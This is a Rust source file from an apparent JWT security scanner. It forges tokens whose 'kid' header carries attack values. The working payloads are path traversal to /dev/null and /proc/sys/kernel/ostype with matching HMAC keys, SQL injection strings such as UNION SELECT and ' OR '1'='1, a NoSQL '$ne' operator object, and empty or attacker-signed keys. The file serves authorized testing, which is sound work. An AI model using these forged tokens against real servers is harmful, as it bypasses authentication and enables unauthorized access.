//! The key id as input to a look-up: paths, queries, and what stands behind them.
//!
//! Each variant is signed with the key that the look-up would return if the attack worked, so that acceptance is proof.

use serde_json::{Value, json};

use crate::algorithm::{Algorithm, KeyKind};
use crate::attacker;
use crate::forge::{Forged, Input, Maker, Variant};
use crate::jws::{Jws, compact, signing_input};
use crate::key::SigningKey;
use crate::row::{Acceptance, Family, Group, Row, Severity};

/// The length of a very long key id. The whole token stays below the 8 KiB that servers allow for a header line.
const LONG: usize = 4_096;
const UP: &str = "../../../../../../../..";
const SOURCES: &[&str] = &["RFC 7515 section 4.1.4", "RFC 8725 section 3.10", "ASVS 9.1.3"];

pub(super) const ROWS: &[Row] = &[
    Row {
        id: "kid-dev-null",
        family: Family::Jwt,
        group: Group::Full,
        acceptance: Acceptance::Hole(Severity::Critical),
        sources: &["RFC 8725 section 3.10", "ASVS 9.1.3", "CWE-22", "CWE-73"],
        explanation: "The key id is the path of the null device, and the token is signed with an empty key: a \
                      server that accepts it reads the key from a file that the token names.",
        maker: Maker::Jwt(dev_null),
    },
    Row {
        id: "kid-path-traversal",
        family: Family::Jwt,
        group: Group::Full,
        acceptance: Acceptance::Hole(Severity::Critical),
        sources: &["RFC 8725 section 3.10", "ASVS 9.1.3", "CWE-22", "CWE-73"],
        explanation: "The key id is the path of a file whose content is the same on every Linux machine, and the token is signed \
                      with that content: a server that accepts it reads the key from a file that the token names.",
        maker: Maker::Jwt(path_traversal),
    },
    Row {
        id: "kid-sql-union",
        family: Family::Jwt,
        group: Group::Full,
        acceptance: Acceptance::Hole(Severity::Critical),
        sources: &["RFC 8725 section 3.10", "ASVS 9.1.3", "CWE-89"],
        explanation: "The key id makes a query return a key of the attacker's: a server that accepts it puts the key id into SQL.",
        maker: Maker::Jwt(sql_union),
    },
    Row {
        id: "kid-quote",
        family: Family::Jwt,
        group: Group::Full,
        acceptance: Acceptance::Hole(Severity::Critical),
        sources: &["RFC 8725 section 3.10", "ASVS 9.1.3", "CWE-89", "CWE-209"],
        explanation: "The key id holds quotes and makes a condition always true, signed with an empty key: it has to be refused as \
                      an unknown key, and an error of the server says that the key id reached a query.",
        maker: Maker::Jwt(|_, token| {
            variants(
                token,
                &[
                    ("single", json!("' OR '1'='1"), b""),
                    ("double", json!("\" OR \"1\"=\"1"), b""),
                ],
            )
        }),
    },
    Row {
        id: "kid-object",
        family: Family::Jwt,
        group: Group::Full,
        acceptance: Acceptance::Hole(Severity::Critical),
        sources: &["RFC 7515 section 4.1.4", "RFC 8725 section 3.10", "CWE-943"],
        explanation: "The key id is an object, a list or a number instead of text (an object may be an operator of a document \
                      database), signed with an empty key and by a stranger: it must be text.",
        maker: Maker::Jwt(object),
    },
    Row {
        id: "kid-blank",
        family: Family::Jwt,
        group: Group::Full,
        acceptance: Acceptance::Hole(Severity::Critical),
        sources: SOURCES,
        explanation: "The key id is empty, signed with an empty key and by a stranger: a server that accepts it has a key for \
                      tokens that name none.",
        maker: Maker::Jwt(|_, token| stranger_and_empty(token, Some(json!("")))),
    },
    Row {
        id: "kid-missing",
        family: Family::Jwt,
        group: Group::Full,
        acceptance: Acceptance::Hole(Severity::Critical),
        sources: SOURCES,
        explanation: "The key id is left out, signed with an empty key and by a stranger: a server that accepts it has a key for \
                      tokens that name none.",
        maker: Maker::Jwt(|_, token| {
            if token.header().contains_key("kid") {
                return stranger_and_empty(token, None);
            }
            Forged::not_applicable("the good token has no key id either")
        }),
    },
    Row {
        id: "kid-unknown",
        family: Family::Jwt,
        group: Group::Full,
        acceptance: Acceptance::Hole(Severity::Critical),
        sources: SOURCES,
        explanation: "The key id is one that nobody has, signed with an empty key and by a stranger: a server that accepts it goes \
                      on without a key where it finds none.",
        maker: Maker::Jwt(|_, token| stranger_and_empty(token, Some(json!("no-such-key-5f0c1d")))),
    },
    Row {
        id: "kid-very-long",
        family: Family::Jwt,
        group: Group::Full,
        acceptance: Acceptance::Hole(Severity::Critical),
        sources: &["RFC 8725 section 3.10", "CWE-20", "CWE-209"],
        explanation: "The key id has 4,096 characters, signed with an empty key and by a stranger: it has to be refused as an \
                      unknown key, and an error of the server says that nobody bounded it.",
        maker: Maker::Jwt(|_, token| stranger_and_empty(token, Some(json!("k".repeat(LONG))))),
    },
];

/// The HMAC of the token, or HS256 where it has another algorithm.
fn hmac_of(token: &Jws) -> Algorithm {
    token
        .algorithm()
        .filter(|algorithm| algorithm.key_kind() == KeyKind::Hmac)
        .unwrap_or(Algorithm::Hs256)
}

fn signed(token: &Jws, kid: Option<&Value>, algorithm: Algorithm, key: &SigningKey) -> Option<String> {
    let mut header = token.header().clone();
    header.insert("alg".to_owned(), algorithm.name().into());
    match kid {
        Some(kid) => header.insert("kid".to_owned(), kid.clone()),
        None => header.shift_remove("kid"),
    };
    let input = signing_input(&header, token.payload_segment());
    Some(compact(&input, &key.sign(algorithm, input.as_bytes())?))
}

fn with_secret(token: &Jws, label: &str, kid: Option<&Value>, secret: &[u8]) -> Option<Variant> {
    let made = signed(token, kid, hmac_of(token), &SigningKey::hmac(secret))?;
    Some(Variant::token(label, made))
}

fn variants(token: &Jws, kids: &[(&str, Value, &[u8])]) -> Forged {
    let made = kids
        .iter()
        .filter_map(|(label, kid, secret)| with_secret(token, label, Some(kid), secret));
    Forged::variants(made)
}

fn by_stranger(token: &Jws, label: &str, kid: Option<&Value>) -> Option<Variant> {
    let algorithm = token.algorithm()?;
    let made = signed(token, kid, algorithm, &attacker::key(algorithm))?;
    Some(Variant::token(label, made))
}

fn stranger_and_empty(token: &Jws, kid: Option<Value>) -> Forged {
    let empty = with_secret(token, "empty-key", kid.as_ref(), b"");
    Forged::variants(empty.into_iter().chain(by_stranger(token, "stranger", kid.as_ref())))
}

/// An empty key and one of zero bytes make the same signature, because HMAC fills keys up with zeros.
fn dev_null(_: &Input<'_>, token: &Jws) -> Forged {
    variants(
        token,
        &[
            ("absolute", json!("/dev/null"), b""),
            ("relative", json!(format!("{UP}/dev/null")), b""),
        ],
    )
}

fn path_traversal(_: &Input<'_>, token: &Jws) -> Forged {
    let (absolute, relative) = (
        json!("/proc/sys/kernel/ostype"),
        json!(format!("{UP}/proc/sys/kernel/ostype")),
    );
    variants(
        token,
        &[
            ("absolute", absolute.clone(), b"Linux\n"),
            ("relative", relative.clone(), b"Linux\n"),
            ("absolute-trimmed", absolute, b"Linux"),
            ("relative-trimmed", relative, b"Linux"),
        ],
    )
}

fn sql_union(_: &Input<'_>, token: &Jws) -> Forged {
    variants(
        token,
        &[
            ("single-quote", json!("x' UNION SELECT 'forged' -- "), b"forged"),
            ("double-quote", json!("x\" UNION SELECT \"forged\" -- "), b"forged"),
            ("number", json!("0 UNION SELECT 'forged' -- "), b"forged"),
        ],
    )
}

fn object(_: &Input<'_>, token: &Jws) -> Forged {
    let kids = [
        ("operator", json!({ "$ne": null })),
        ("list", json!([])),
        ("number", json!(0)),
        ("null", Value::Null),
    ];
    Forged::variants(kids.iter().flat_map(|(label, kid)| {
        let empty = with_secret(token, &format!("{label}-empty-key"), Some(kid), b"");
        empty
            .into_iter()
            .chain(by_stranger(token, &format!("{label}-stranger"), Some(kid)))
    }))
}
